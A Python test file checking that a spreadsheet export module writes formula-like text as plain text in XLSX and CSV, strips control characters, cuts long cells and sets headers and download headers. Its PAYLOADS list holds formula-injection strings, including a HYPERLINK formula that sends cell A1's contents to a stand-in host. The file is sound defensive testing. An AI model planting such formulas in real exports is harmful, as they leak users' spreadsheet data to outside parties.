"""The one spreadsheet writer: formulas neutralised, illegal characters stripped, cells cut, header frozen."""

import csv
import datetime
import io
import zipfile

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from chiso.core import exports

PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"bấm")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _book(*rows, header=("Cột",)):
    return load_workbook(
        io.BytesIO(exports.xlsx(exports.Sheet("Thử", list(header), [list(r) for r in rows])))
    )


def test_text_that_looks_like_a_formula_is_written_as_plain_text_in_xlsx():
    data = exports.xlsx(exports.Sheet("Thử", ["Cột"], [[p] for p in PAYLOADS]))
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula element at all
    sheet = load_workbook(io.BytesIO(data)).active
    for row, payload in enumerate(PAYLOADS, start=2):
        cell = sheet.cell(row, 1)
        assert cell.data_type == "s" and cell.value == payload  # shown exactly as written
        assert cell.quotePrefix


def test_text_that_looks_like_a_formula_gets_an_apostrophe_in_csv():
    data = exports.csv_bytes(["Cột"], [[p] for p in PAYLOADS]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data)))
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]


def test_control_characters_are_stripped_instead_of_failing_the_export():
    sheet = _book(["Mã\x00hồ\x1bsơ\x0b"]).active
    assert sheet.cell(2, 1).value == "Mãhồsơ"
    assert exports.csv_bytes(["a"], [["x\x00y"]]).decode("utf-8-sig").splitlines()[1] == "xy"


def test_a_cell_longer_than_excel_allows_is_cut_with_a_mark():
    sheet = _book(["x" * 200_000]).active
    value = sheet.cell(2, 1).value
    assert len(value) == exports.MAX_CELL and value.endswith(exports.CUT_MARK)


def test_header_is_bold_and_frozen_below_the_title_lines_and_dates_are_dd_mm_yyyy():
    data = exports.xlsx(
        exports.Sheet(
            "Nhiệm vụ: [quý 1]/2026",
            ["Mục", "Hạn"],
            [["1", datetime.date(2026, 3, 31)]],
            title_rows=[["Tiêu đề"]],
        )
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Nhiệm vụ- -quý 1--2026"
    assert sheet.freeze_panes == "A3"
    assert sheet.cell(2, 1).font.b
    assert sheet.cell(3, 2).number_format == "DD/MM/YYYY"
    assert sheet.column_dimensions["A"].width >= 8


def test_download_is_private_and_named():
    response = exports.download(b"x", "bao-cao thử.xlsx")
    assert response["Cache-Control"] == "private, no-store"
    assert "attachment" in response["Content-Disposition"]
    assert response["Content-Type"] == exports.XLSX_TYPE


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=6))
def test_any_text_survives_a_round_trip_without_becoming_a_formula(values):
    data = exports.xlsx(exports.Sheet("t", ["c"] * len(values), [values]))
    sheet = load_workbook(io.BytesIO(data)).active
    for col, value in enumerate(values, start=1):
        cell = sheet.cell(2, col)
        assert cell.data_type != "f"
        expected = exports.clean_text(value)
        assert (cell.value or "") == expected
    rows = list(csv.reader(io.StringIO(exports.csv_bytes([], [values]).decode("utf-8-sig"), newline="")))
    for field in rows[0]:
        assert not exports.looks_like_formula(field)
